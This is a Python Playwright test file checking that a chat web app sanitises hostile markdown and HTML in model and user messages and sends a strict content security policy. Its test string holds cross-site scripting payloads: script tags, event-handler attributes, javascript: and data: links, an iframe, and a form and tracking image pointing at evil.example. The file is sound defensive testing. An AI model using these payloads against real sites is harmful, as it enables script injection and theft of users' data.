"""Model output is untrusted: hostile markdown and HTML never run, load or leak."""

import pytest
from playwright.sync_api import expect

from tests.fakeupstream import Scenario

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOSTILE = (
    "# Report\n\n"
    "Here is **bold** text and a [safe link](https://example.org/docs).\n\n"
    "<script>window.__pwned = 'script'; alert('script')</script>\n\n"
    '<img src="https://evil.example/track.png?c=secret" onerror="window.__pwned=\'img\'">\n\n'
    "![tracker](https://evil.example/pixel.gif)\n\n"
    "[click me](javascript:window.__pwned='link';alert(1))\n\n"
    '<a href="javascript:alert(2)" onclick="window.__pwned=\'click\'">also me</a>\n\n'
    "<div onmouseover=\"window.__pwned='hover'\">hover here</div>\n\n"
    '<iframe src="https://evil.example/frame"></iframe>\n\n'
    '<svg onload="window.__pwned=\'svg\'"><circle r="4"/></svg>\n\n'
    '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>\n\n'
    '<a href="data:text/html,<script>alert(3)</script>">data link</a>\n\n'
    "```python\nprint('<b>not bold</b>')\n```\n\n"
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(4)> | ok |\n\n"
    "Last line stays readable."
)


def chunks(text: str, size: int = 7) -> list[str]:
    """Small pieces, so tags and attributes are split across deltas."""
    return [text[i : i + size] for i in range(0, len(text), size)]


def test_hostile_output_runs_nothing_loads_nothing_and_stays_readable(
    browse, alice, upstream_model, fake
):
    fake.enqueue(Scenario(tokens=chunks(HOSTILE), delay=0.005))
    page, watched = browse(alice)
    page.fill("#prompt", "Write a report")
    page.keyboard.press("Enter")
    answer = page.locator(".message.assistant").last
    expect(answer).to_have_attribute("data-status", "complete", timeout=20_000)
    body = answer.locator(".body")
    body.locator("text=hover here").hover()
    for link in body.locator("a").all():
        if not link.get_attribute("href"):
            link.click()  # a link stripped of its javascript: target does nothing
    page.wait_for_timeout(300)

    assert page.evaluate("window.__pwned") is None
    assert watched.dialogs == []
    assert watched.foreign_requests == []
    assert watched.errors == []
    assert body.locator("script, iframe, img, svg, form, input, object, embed").count() == 0
    assert body.locator("[onerror], [onclick], [onmouseover], [onload]").count() == 0
    for href in body.locator("a[href]").evaluate_all("links => links.map(a => a.href)"):
        assert href.startswith(("https://", "http://", "mailto:")), href
    safe = body.get_by_role("link", name="safe link")
    expect(safe).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(safe).to_have_attribute("target", "_blank")
    expect(body.locator("a.image-link", has_text="tracker")).to_have_attribute(
        "href", "https://evil.example/pixel.gif"
    )
    expect(body.locator("h1")).to_have_text("Report")
    expect(body.locator("strong")).to_have_text("bold")
    expect(body.locator("pre code")).to_contain_text("print('<b>not bold</b>')")
    expect(body).to_contain_text("Last line stays readable.")


def test_user_text_is_shown_as_text_not_html(browse, alice, upstream_model, fake):
    page, _watched = browse(alice)
    page.fill("#prompt", "<img src=x onerror=\"window.__pwned='user'\"> <b>hi</b>")
    page.keyboard.press("Enter")
    question = page.locator(".message.user").last
    expect(question.locator(".body")).to_have_text(
        "<img src=x onerror=\"window.__pwned='user'\"> <b>hi</b>"
    )
    expect(page.locator(".message.assistant").last).to_have_attribute("data-status", "complete")
    assert page.evaluate("window.__pwned") is None
    assert question.locator("img, b").count() == 0


def test_the_page_sends_a_strict_content_security_policy(browse, alice, upstream_model):
    page, _ = browse(alice)
    response = page.goto("/")
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "connect-src 'self'" in policy
    assert "'unsafe-eval'" not in policy
    # An inline script slipped into the page is refused by the policy itself.
    page.evaluate(
        """() => { const s = document.createElement('script');
                   s.textContent = 'window.__inline = 1'; document.body.append(s); }"""
    )
    page.wait_for_timeout(100)
    assert page.evaluate("window.__inline") is None
